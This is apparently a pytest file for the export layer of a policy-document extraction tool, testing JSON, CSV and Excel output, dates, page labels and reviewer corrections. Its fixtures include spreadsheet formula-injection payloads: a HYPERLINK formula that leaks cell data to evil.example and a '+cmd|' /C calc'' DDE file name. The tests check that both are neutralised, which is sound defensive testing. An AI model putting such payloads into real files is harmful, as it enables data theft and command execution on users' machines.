"""Exports: the JSON contract, CSV that parses back, Excel with all sheets, no formula injection."""
from __future__ import annotations

import csv
import io
import json

import datetime as dt
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from policy_reader.delivery.formats import (
    DATE_FORMAT,
    REVIEW_FILL,
    SummaryRow,
    WorkbookInfo,
    job_payload,
    to_csv,
    to_json,
    to_xlsx,
)
from policy_reader.delivery.answer_marks import answer_text
from policy_reader.models import Answer, AnswerStatus, DocumentResult, Usage, Variable
from policy_reader.llm.prompts import PROMPT_VERSION

VARIABLES = [
    Variable(name="year_adopted", question="Year?", type="year"),
    Variable(name="target_pct", question="Target?", type="number"),
    Variable(name="sectors", question="Sectors?", type="list", options=("energy", "transport")),
    Variable(name="title", question="Title?", type="text"),
]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _documents() -> list[DocumentResult]:
    ok = DocumentResult(doc_id="d0001", file="política_climática.pdf", pages=3, variables=[
        Answer(name="year_adopted", value=2019, evidence="adopted by Cabinet in 2019", page=2, confidence=0.9,
               status=AnswerStatus.ACCEPTED),
        Answer(name="target_pct", value=-2.5, evidence="-2.5% change", page=3, confidence=0.6,
               status=AnswerStatus.NEEDS_REVIEW, note="low confidence"),
        Answer(name="sectors", value=["energy", "transport"], evidence="energy and transport", page=3,
               confidence=0.7, status=AnswerStatus.NEEDS_REVIEW, reviewed=True),
        Answer(name="title", value=EVIL, evidence="@SUM(1+1)\x07 bell", page=1, confidence=0.5,
               status=AnswerStatus.NEEDS_REVIEW),
    ])
    injected_name = DocumentResult(doc_id="d0002", file="+cmd|' /C calc'!A0.pdf", pages=1, variables=[
        Answer(name="year_adopted", status=AnswerStatus.NOT_FOUND),
        Answer(name="target_pct", status=AnswerStatus.ERROR, note="The model call timed out after 5 retries."),
        Answer(name="sectors", value=[], status=AnswerStatus.NEEDS_REVIEW, confidence=0.3),
        Answer(name="title", value="Año 2020 — ambición", evidence="Año 2020 — ambición", page=1, confidence=0.8,
               status=AnswerStatus.ACCEPTED),
    ])
    failed = DocumentResult(doc_id="d0003", file="scan.pdf", status="failed", error_code="encrypted",
                            error="scan.pdf is password protected: enter its password and retry.")
    return [ok, injected_name, failed]


def assert_no_formulas(wb) -> None:
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)


def summary_facts(wb) -> dict:
    """The Summary sheet as {label: value} (labels in column A, values in B)."""
    return {row[0].value: row[1].value for row in wb["Summary"].iter_rows(min_row=2) if row[0].value}


USAGE = Usage(calls=3, prompt_tokens=1200, cached_prompt_tokens=400, completion_tokens=300, cost_usd=0.00042)


def test_payload_matches_the_readme_contract():
    payload = job_payload("job-1", "completed", _documents(), USAGE)
    assert set(payload) == {"job_id", "status", "documents", "usage", "accuracy", "files"}
    assert payload["files"] == {"uploaded": 3, "read": 2, "failed": 1, "skipped": 0}
    assert payload["job_id"] == "job-1" and payload["status"] == "completed"
    assert payload["accuracy"] is None  # until an audit measures it (tests/jobs/test_accuracy_book.py)
    assert {"calls", "prompt_tokens", "completion_tokens", "cost_usd"} <= set(payload["usage"])
    assert payload["usage"]["calls"] == 3 and payload["usage"]["cost_usd"] == 0.00042
    docs = payload["documents"]
    assert [d["status"] for d in docs] == ["ok", "ok", "failed"]
    for d in docs:
        assert {"file", "status", "error", "pages", "variables"} <= set(d)
        for v in d["variables"]:
            assert {"name", "value", "evidence", "page", "confidence", "status"} <= set(v)
    first = docs[0]["variables"]
    assert first[0] == {**first[0], "name": "year_adopted", "value": 2019, "page": 2, "status": "accepted"}
    assert first[2]["value"] == ["energy", "transport"] and first[2]["reviewed"] is True
    assert docs[2]["error"].startswith("scan.pdf is password protected") and docs[2]["variables"] == []


def test_json_bytes_round_trip_with_unicode():
    payload = job_payload("job-1", "completed", _documents(), USAGE)
    data = to_json(payload)
    assert "política_climática.pdf".encode() in data  # not \u escapes: readable
    assert json.loads(data) == payload


def test_csv_parses_back_one_row_per_document_and_variable():
    data = to_csv(_documents())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert list(rows[0]) == ["file", "doc_status", "variable", "value", "status", "status_label", "confidence",
                             "page", "evidence", "reviewed", "error", "match_kind", "span", "printed_page",
                             "original_value", "corrected_by", "corrected_at", "review_note"]
    assert len(rows) == 4 + 4 + 1
    first = rows[0]
    assert (first["file"], first["variable"], first["value"], first["page"], first["status"]) == (
        "política_climática.pdf", "year_adopted", "2019", "2", "accepted")
    assert rows[1]["value"] == "-2.5"  # a real number stays a number
    assert rows[1]["evidence"] == "'-2.5% change"  # text starting with - is defused
    assert rows[2]["value"] == "energy; transport" and rows[2]["reviewed"] == "yes"
    assert rows[3]["value"] == "'" + EVIL  # formula defused
    assert rows[3]["evidence"].startswith("'@SUM")
    assert rows[4]["file"].startswith("'+cmd")
    assert rows[5]["status"] == "error" and "timed out" in rows[5]["error"]
    assert rows[7]["value"] == "Año 2020 — ambición"
    assert rows[8]["doc_status"] == "failed" and rows[8]["variable"] == "" and "password" in rows[8]["error"]


def test_xlsx_has_all_sheets_summary_first_and_no_formula_cells():
    data = to_xlsx(_documents(), VARIABLES, USAGE)
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Summary", "Results", "Evidence", "Errors", "Legend"]
    assert wb.active.title == "Summary"  # the sheet Excel opens on says what the file is
    assert_no_formulas(wb)

    results = wb["Results"]
    assert [c.value for c in results[1]] == ["file", "status", "year_adopted", "target_pct", "sectors", "title"]
    assert results.freeze_panes == "B2"
    assert results.max_row == 4
    assert results["A2"].value == "política_climática.pdf"
    assert results["C2"].value == 2019 and results["C2"].fill.fgColor.rgb[-6:] != REVIEW_FILL
    assert results["D2"].value == -2.5 and results["D2"].data_type == "n"  # a negative number stays a number
    assert results["D2"].fill.fgColor.rgb.endswith(REVIEW_FILL)
    assert results["E2"].value == "energy; transport"
    assert results["F2"].value == EVIL and results["F2"].data_type == "s" and results["F2"].quotePrefix
    assert results["A3"].value.startswith("+cmd") and results["A3"].quotePrefix
    assert results["F3"].value == "Año 2020 — ambición"
    assert results["B4"].value == "failed"
    assert results.column_dimensions["A"].width >= 10

    evidence = wb["Evidence"]
    assert [c.value for c in evidence[1]][:7] == ["file", "variable", "value", "page", "evidence", "confidence",
                                                  "status"]
    assert evidence.max_row == 1 + 8
    assert evidence["E5"].value == "@SUM(1+1) bell"  # control character removed, text kept as text

    errors = wb["Errors"]
    error_rows = [[c.value for c in row] for row in errors.iter_rows(min_row=2)]
    assert ["+cmd|' /C calc'!A0.pdf", "target_pct", "answer", "The model call timed out after 5 retries."] in error_rows
    assert any(r[0] == "scan.pdf" and r[2] == "encrypted" for r in error_rows)

    facts = summary_facts(wb)
    assert facts["model calls"] == 3 and facts["prompt tokens"] == 1200 and facts["documents failed"] == 1
    assert facts["answers to review (not yet reviewed)"] == 3  # the reviewed one is done


def test_xlsx_columns_follow_answers_when_variables_are_unknown():
    wb = load_workbook(io.BytesIO(to_xlsx(_documents(), None, Usage())))
    assert [c.value for c in wb["Results"][1]][2:] == ["year_adopted", "target_pct", "sectors", "title"]


# --------------------------------------------------------------------------- workbook polish

DATED = [
    Variable(name="adoption_date", question="When?", type="date"),
    Variable(name="year_adopted", question="Year?", type="year"),
    Variable(name="reference", question="Reference?", type="text"),
]


def _dated_documents() -> list[DocumentResult]:
    def doc(doc_id: str, name: str, date: object, reference: str) -> DocumentResult:
        return DocumentResult(doc_id=doc_id, file=name, pages=2, variables=[
            Answer(name="adoption_date", value=date, evidence="adopted on ...", page=2, confidence=0.9,
                   status=AnswerStatus.ACCEPTED if date else AnswerStatus.NOT_FOUND),
            Answer(name="year_adopted", value=2019, evidence="in 2019", page=2, confidence=0.9,
                   status=AnswerStatus.ACCEPTED),
            Answer(name="reference", value=reference, evidence=reference, page=1, confidence=0.9,
                   status=AnswerStatus.ACCEPTED),
        ])
    return [doc("d0001", "full.pdf", "2019-06-04", "2020-01-01"),  # a text that looks like a date stays text
            doc("d0002", "month.pdf", "2021-03", "ref"),            # partial date: as the document says it
            doc("d0003", "old.pdf", "1887-05-12", "ref"),           # Excel cannot show dates before 1900
            doc("d0004", "none.pdf", None, "ref")]


def test_full_dates_of_date_variables_are_date_cells():
    wb = load_workbook(io.BytesIO(to_xlsx(_dated_documents(), DATED, Usage())))
    results = wb["Results"]
    assert [c.value for c in results[1]] == ["file", "status", "adoption_date", "year_adopted", "reference"]
    full = results["C2"]
    assert full.is_date and full.value == dt.datetime(2019, 6, 4) and full.number_format == DATE_FORMAT
    assert results["C3"].value == "2021-03" and results["C3"].data_type == "s"
    assert results["C4"].value == "1887-05-12" and results["C4"].data_type == "s"
    assert results["C5"].value == "– not stated"  # a finding, not a blank
    assert results["D2"].value == 2019 and results["D2"].data_type == "n"
    assert results["E2"].value == "2020-01-01" and results["E2"].data_type == "s"  # type text: not a date

    evidence = wb["Evidence"]
    headers = [c.value for c in evidence[1]]
    value_col = headers.index("value") + 1
    cell = evidence.cell(row=2, column=value_col)
    assert evidence.cell(row=2, column=2).value == "adoption_date"
    assert cell.is_date and cell.value == dt.datetime(2019, 6, 4) and cell.number_format == DATE_FORMAT
    assert_no_formulas(wb)


def test_results_and_evidence_have_auto_filters_over_every_row():
    wb = load_workbook(io.BytesIO(to_xlsx(_documents(), VARIABLES, USAGE)))
    assert wb["Results"].auto_filter.ref == "A1:F4"  # 2 + 4 variable columns, header + 3 documents
    assert wb["Evidence"].auto_filter.ref == "A1:P9"  # 16 columns, header + 8 answers
    # an empty job still gets a valid (header-only) filter
    empty = load_workbook(io.BytesIO(to_xlsx([], VARIABLES, Usage())))
    assert empty["Results"].auto_filter.ref == "A1:F1"


def test_summary_sheet_says_what_the_file_is():
    state = {"id": "0123456789abcdef0123", "name": "Climate laws =cmd", "status": "running",
             "backend": "openai", "model": "gpt-4o-mini", "created_at": "2024-05-01T08:30:00.000+00:00"}
    info = WorkbookInfo.from_state(state, status="completed")
    wb = load_workbook(io.BytesIO(to_xlsx(_documents(), VARIABLES, USAGE, info)))
    facts = summary_facts(wb)
    assert facts["job name"] == "Climate laws =cmd"
    assert facts["job id"] == "0123456789abcdef0123" and facts["status"] == "completed"
    assert facts["backend"] == "openai" and facts["model"] == "gpt-4o-mini"
    assert facts["prompt version"] == PROMPT_VERSION
    assert facts["created (UTC)"] == dt.datetime(2024, 5, 1, 8, 30)
    assert isinstance(facts["exported (UTC)"], dt.datetime)
    assert (facts["documents"], facts["documents read"], facts["documents failed"]) == (3, 2, 1)
    assert facts["variables"] == 4 and facts["answers"] == 8 and facts["pages"] == 4
    assert facts["answers accepted"] == 2 and facts["answers not stated in the document"] == 1 and facts["answers with errors"] == 1
    assert facts["answers reviewed by an analyst"] == 1
    assert facts["estimated cost (USD)"] == 0.00042
    assert facts["accuracy estimate"] == "not measured for this job"
    rows = {row[0].value: row[1] for row in wb["Summary"].iter_rows(min_row=2) if row[0].value}
    assert rows["job name"].quotePrefix is False and rows["job name"].data_type == "s"
    assert rows["created (UTC)"].is_date and rows["estimated cost (USD)"].data_type == "n"
    assert_no_formulas(wb)

    offline = WorkbookInfo.from_state({**state, "backend": "offline", "model": "offline"})
    facts = summary_facts(load_workbook(io.BytesIO(to_xlsx(_documents(), VARIABLES, USAGE, offline))))
    assert facts["prompt version"].startswith("n/a") and facts["status"] == "running"


def test_summary_takes_a_measured_accuracy_when_given():
    accuracy = [SummaryRow(label="accuracy estimate", value=0.925, number_format="0.0%"),
                SummaryRow(label="measured on", value="12 documents checked by an analyst")]
    wb = load_workbook(io.BytesIO(to_xlsx(_documents(), VARIABLES, USAGE, accuracy=accuracy)))
    rows = {row[0].value: row[1] for row in wb["Summary"].iter_rows(min_row=2) if row[0].value}
    assert rows["accuracy estimate"].value == 0.925 and rows["accuracy estimate"].number_format == "0.0%"
    assert rows["measured on"].value == "12 documents checked by an analyst"


# --------------------------------------------------------------------------- LibreOffice

def _soffice() -> str:
    """LibreOffice's command line; missing is a failure under CI=true (the package is in .ci/run)."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found:
        return found
    message = "LibreOffice (soffice) is not installed: apt-get install libreoffice-calc"
    if os.environ.get("CI", "").lower() == "true":
        pytest.fail(message)
    pytest.skip(message)


def test_workbook_opens_in_libreoffice_with_dates_numbers_and_summary(tmp_path: Path):
    soffice = _soffice()
    documents = _documents() + _dated_documents()
    variables = VARIABLES + [v for v in DATED if v.name not in {x.name for x in VARIABLES}]
    info = WorkbookInfo(job_id="j1", job_name="LibreOffice check", status="completed", backend="offline",
                        model="offline", created_at=dt.datetime(2024, 5, 1, 8, 30, tzinfo=dt.timezone.utc))
    source = tmp_path / "results.xlsx"
    source.write_bytes(to_xlsx(documents, variables, USAGE, info))
    out = tmp_path / "out"
    # own profile: no first-run state shared with another test or a desktop session
    proc = subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
                           "--norestore", "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out),
                           str(source)], capture_output=True, text=True, timeout=120)
    converted = out / "results.xlsx"
    assert proc.returncode == 0 and converted.exists(), proc.stdout + proc.stderr

    wb = load_workbook(converted)  # as LibreOffice understood and wrote it back
    assert wb.sheetnames == ["Summary", "Results", "Evidence", "Errors", "Legend"]
    assert_no_formulas(wb)
    facts = summary_facts(wb)
    assert facts["job name"] == "LibreOffice check" and facts["documents"] == 7
    assert facts["created (UTC)"] == dt.datetime(2024, 5, 1, 8, 30)
    assert facts["estimated cost (USD)"] == pytest.approx(0.00042)
    results = wb["Results"]
    header = [c.value for c in results[1]]
    by_file = {row[0].value: row for row in results.iter_rows(min_row=2)}
    date_cell = by_file["full.pdf"][header.index("adoption_date")]
    assert date_cell.is_date and date_cell.value == dt.datetime(2019, 6, 4), date_cell.number_format
    assert "yy" in date_cell.number_format.lower()
    assert by_file["month.pdf"][header.index("adoption_date")].value == "2021-03"
    target = by_file["política_climática.pdf"][header.index("target_pct")]
    assert target.value == -2.5 and target.data_type == "n"
    title = by_file["política_climática.pdf"][header.index("title")]
    assert title.value == EVIL and title.data_type == "s"  # still text, not a formula
    assert results.auto_filter.ref == f"A1:H{1 + len(documents)}"
    assert wb["Evidence"].auto_filter.ref == f"A1:P{1 + 8 + 3 * 4}"


def test_exports_carry_match_kind_and_span_and_never_a_page_outside_the_document():
    """Issue 19: CSV, Excel and JSON say how each quote was found and where; a page the model invented
    (older results kept it) is not exported."""
    from policy_reader.models import MatchKind, SpanPart

    doc = DocumentResult(doc_id="d0001", file="p.pdf", pages=4, variables=[
        Answer(name="ministry", value="Ministry of Environment", evidence="The Ministry of </page> <page "
               'number="5"> Environment', page=3, confidence=1.0, status=AnswerStatus.ACCEPTED,
               match_kind=MatchKind.EXACT, similarity=1.0,
               span=[SpanPart(page=2, start=2310, end=2325), SpanPart(page=3, start=0, end=11)]),
        Answer(name="year_adopted", value=2018, evidence="entered into force in 2018", page=3847659201,
               confidence=1.0, status=AnswerStatus.NEEDS_REVIEW, note="evidence not found in the document"),
    ])
    payload = job_payload("job-1", "completed", [doc], USAGE)
    ministry, year = payload["documents"][0]["variables"]
    assert ministry["match_kind"] == "exact" and ministry["similarity"] == 1.0 and ministry["page"] == 3
    assert ministry["span"] == [{"page": 2, "start": 2310, "end": 2325}, {"page": 3, "start": 0, "end": 11}]
    assert year["match_kind"] == "none" and year["span"] == [] and year["page"] is None

    rows = list(csv.DictReader(io.StringIO(to_csv([doc]).decode("utf-8-sig"))))
    assert [(r["match_kind"], r["span"], r["page"]) for r in rows] == [("exact", "2:2310-2325; 3:0-11", "3"),
                                                                       ("none", "", "")]
    sheet = load_workbook(io.BytesIO(to_xlsx([doc], None, USAGE)))["Evidence"]
    header = [c.value for c in sheet[1]]
    got = [{h: c.value for h, c in zip(header, row)} for row in sheet.iter_rows(min_row=2)]
    assert [(g["match kind"], g["span"], g["page"]) for g in got] == [("exact", "2:2310-2325; 3:0-11", 3),
                                                                      ("none", None, None)]


def test_exports_give_the_printed_page_next_to_the_pdf_page():
    """Issue 28: a page printed '98' is PDF page 105; the analyst holding the paper copy needs both."""
    doc = DocumentResult(doc_id="d0001", file="ordinance.pdf", pages=240, variables=[
        Answer(name="setback_residences", value=1000, evidence="Residences (irrigation) | 1,000 feet", page=105,
               page_label="98", confidence=1.0, status=AnswerStatus.ACCEPTED),
        Answer(name="max_height", value=500, evidence="no more than 500 feet", page=3, confidence=1.0,
               status=AnswerStatus.ACCEPTED),  # a PDF without printed numbers
    ])
    payload = job_payload("job-1", "completed", [doc], USAGE)
    setback, height = payload["documents"][0]["variables"]
    assert (setback["page"], setback["page_label"]) == (105, "98")
    assert (height["page"], height["page_label"]) == (3, None)

    rows = list(csv.DictReader(io.StringIO(to_csv([doc]).decode("utf-8-sig"))))
    assert [(r["page"], r["printed_page"]) for r in rows] == [("105", "98"), ("3", "")]
    sheet = load_workbook(io.BytesIO(to_xlsx([doc], None, USAGE)))["Evidence"]
    header = [c.value for c in sheet[1]]
    got = [{h: c.value for h, c in zip(header, row)} for row in sheet.iter_rows(min_row=2)]
    assert [(g["page"], g["printed page"]) for g in got] == [(105, "98"), (3, None)]


def _corrected_documents() -> list[DocumentResult]:
    from policy_reader.jobs.result_book import apply_reviews

    doc = _documents()[0]
    reviews = {"year_adopted": {"value": 2020, "reviewed": True, "by": "ana@example.org",
                                "at": "2026-12-07T17:05:00.000+00:00", "note": "the amendment's year"},
               "title": {"value": None, "reviewed": True, "by": "ana@example.org", "at": "2026-12-07T17:06:00.000+00:00"}}
    return [apply_reviews(doc, reviews), *_documents()[1:]]


def test_every_answer_status_reads_without_colour_in_every_export():
    """Before: a not-found cell was blank like a cleared one, a corrected cell kept the engine's flag,
    and only amber and red told the states apart."""
    documents = _corrected_documents()
    wb = load_workbook(io.BytesIO(to_xlsx(documents, VARIABLES, USAGE)))
    results = wb["Results"]
    header = [c.value for c in results[1]]
    row = {c: results.cell(row=2, column=header.index(c) + 1) for c in header}
    other = {c: results.cell(row=3, column=header.index(c) + 1) for c in header}
    assert row["year_adopted"].value == 2020 and row["year_adopted"].number_format.endswith('" ✎"')
    assert "ana@example.org" in row["year_adopted"].comment.text and "2019" in row["year_adopted"].comment.text
    assert "the amendment's year" in row["year_adopted"].comment.text
    assert row["target_pct"].value == -2.5 and row["target_pct"].number_format.endswith('" ?"')
    assert row["title"].value == "– not stated ✎"  # cleared by the analyst: a corrected "not stated"
    assert other["year_adopted"].value == "– not stated" and other["target_pct"].value == "! error"
    assert other["title"].number_format == "General"  # accepted: the value alone

    legend = [[c.value for c in r] for r in wb["Legend"].iter_rows(min_row=2, max_row=6)]
    assert [r[1] for r in legend] == ["accepted", "needs review", "not stated", "error", "corrected"]
    assert all(r[0] and r[2] for r in legend)

    evidence = wb["Evidence"]
    head = [c.value for c in evidence[1]]
    first = {h: evidence.cell(row=2, column=i + 1).value for i, h in enumerate(head)}
    assert first["status"] == "✎ corrected" and first["original value"] == "2019"
    assert first["corrected by"] == "ana@example.org" and first["corrected at"] == dt.datetime(2026, 12, 7, 17, 5)
    assert first["correction note"] == "the amendment's year" and "low confidence" not in (first["note"] or "")
    title = {h: evidence.cell(row=5, column=i + 1).value for i, h in enumerate(head)}
    assert title["value"] == "" or title["value"] is None
    assert not title["evidence"] and title["page"] is None and title["original value"] == EVIL

    rows = list(csv.DictReader(io.StringIO(to_csv(documents).decode("utf-8-sig"))))
    assert [r["status_label"] for r in rows[:4]] == ["✎ corrected", "? needs review", "? needs review", "✎ corrected"]
    assert rows[4]["status_label"] == "– not stated" and rows[5]["status_label"] == "! error"
    assert rows[0]["original_value"] == "2019" and rows[0]["corrected_by"] == "ana@example.org"

    payload = job_payload("j", "completed", documents, USAGE)
    answers = payload["documents"][0]["variables"]
    assert answers[0]["status"] == "corrected" and answers[0]["original_value"] == 2019
    assert answers[0]["review"]["note"] == "the amendment's year"
    assert payload["documents"][1]["variables"][0]["status_label"] == "not stated"


def test_answer_text_says_the_status_in_one_line():
    documents = _corrected_documents()
    assert [answer_text(a) for a in documents[0].variables] == ["2020 ✎", "-2.5 ?", "energy; transport ?",
                                                                "– not stated ✎"]
    assert [answer_text(a) for a in documents[1].variables] == ["– not stated", "! error", "(empty) ?",
                                                                "Año 2020 — ambición"]
